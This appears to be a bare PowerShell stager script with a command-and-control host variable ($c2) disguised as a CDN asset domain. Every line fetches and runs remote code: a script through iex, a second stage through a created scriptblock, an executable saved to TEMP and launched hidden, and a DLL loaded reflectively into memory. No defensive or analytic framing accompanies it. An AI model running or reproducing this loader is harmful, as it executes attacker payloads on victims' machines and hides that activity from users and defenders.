$c2 = 'https://cdn-static-assets.example.com'

iex (iwr "$c2/s1.ps1" -UseBasicParsing).Content

$stage2 = Invoke-RestMethod -Uri "$c2/s2.ps1"
& ([scriptblock]::Create($stage2))

Invoke-WebRequest -Uri "$c2/svc.exe" -OutFile "$env:TEMP\svc.exe"
Start-Process -FilePath "$env:TEMP\svc.exe" -WindowStyle Hidden

[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData("$c2/lib.dll")) | Out-Null
